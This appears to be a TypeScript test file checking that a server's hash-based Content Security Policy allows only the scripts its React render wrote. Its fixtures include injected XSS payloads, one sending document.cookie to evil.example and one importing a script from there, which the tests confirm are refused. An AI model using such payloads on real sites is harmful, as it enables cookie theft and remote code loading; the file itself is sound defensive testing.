import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { deferModuleScripts } from "~/server/http/deferred-scripts.server";
import { hashOwnScripts, scriptHash } from "~/server/http/script-hashes.server";
import { createNonce, hashedDocumentCsp } from "~/server/http/security-headers.server";
import { refusedScripts, scriptSources } from "../helpers/csp";

// A page the HTML cache sends to everyone names its own inline scripts by hash (decision 0112);
// e2e/html-cache.spec.ts and security/headers.test.ts check the real pages of the built server.

test("A script's hash is the one browsers compute: the CSP specification's example, and CR LF read as LF", () => {
  expect(scriptHash("alert('Hello, world.');")).toBe("'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='");
  expect(scriptHash("a();\r\nb();\rc();")).toBe(scriptHash("a();\nb();\nc();"));
  // A script the boot script creates is never parsed: its text is taken as it is.
  expect(scriptHash("a();\r\n", false)).not.toBe(scriptHash("a();\n", false));
});

/** A page as React renders it: our scripts with the render's nonce, and content that slipped a script in. */
function renderedPage(nonce: string, content: string): string {
  return (
    "<!DOCTYPE html>" +
    renderToStaticMarkup(
      <html>
        <head>
          <script nonce={nonce} dangerouslySetInnerHTML={{ __html: "document.documentElement.dataset.theme='light'" }} />
          <link nonce={nonce} rel="stylesheet" href="/assets/app.css" />
          <style nonce={nonce} dangerouslySetInnerHTML={{ __html: ":root{--brand:#123}" }} />
        </head>
        <body>
          <main dangerouslySetInnerHTML={{ __html: content }} />
          <script nonce={nonce} dangerouslySetInnerHTML={{ __html: "window.__reactRouterContext = {};" }} />
          <script nonce={nonce} type="module" async dangerouslySetInnerHTML={{ __html: 'import("/assets/entry.client-1.js");' }} />
        </body>
      </html>,
    )
  );
}

test("Only the scripts the render wrote are hashed: a script inside content, even one dressed as React Router's, does not match", () => {
  const nonce = createNonce();
  const injected = [
    "<script>fetch('https://evil.example/?'+document.cookie)</script>",
    '<script type="module" async="">import("https://evil.example/x.js")</script>',
    '<script nonce="guessed">alert(1)</script>',
  ];
  const deferred = deferModuleScripts(Buffer.from(renderedPage(nonce, `<p>Hello</p>${injected.join("")}`)), nonce, "");
  const { html, hashes } = hashOwnScripts(deferred.html.toString(), nonce, deferred.created);
  const csp = hashedDocumentCsp(hashes);

  // The theme snippet, React Router's context, the boot script, and the module script it adds.
  expect(hashes).toHaveLength(4);
  // Nothing else: no 'unsafe-inline', no nonce.
  expect(scriptSources(csp)).toEqual(["'self'", ...hashes]);
  // The nonce found the scripts and then left: no attribute names it, and the policy has none.
  expect(html).not.toContain(nonce);
  expect(csp).not.toContain("'nonce-");
  expect(html).toContain("<style>:root{--brand:#123}</style>");
  expect(refusedScripts(html, csp)).toEqual(injected.map((tag) => /<script[^>]*>([\s\S]*?)<\/script>/.exec(tag)![1]!.slice(0, 60)));
});

test("A page whose scripts all came from the render runs every one of them under its hashes", () => {
  const nonce = createNonce();
  const deferred = deferModuleScripts(Buffer.from(renderedPage(nonce, "<p>Only words</p>")), nonce, "");
  const { html, hashes } = hashOwnScripts(deferred.html.toString(), nonce, deferred.created);
  expect(refusedScripts(html, hashedDocumentCsp(hashes))).toEqual([]);
  // The same script twice needs its hash once.
  const twice = hashOwnScripts(`<script nonce="${nonce}">a()</script><script nonce="${nonce}">a()</script>`, nonce);
  expect(twice.hashes).toEqual([scriptHash("a()")]);
});
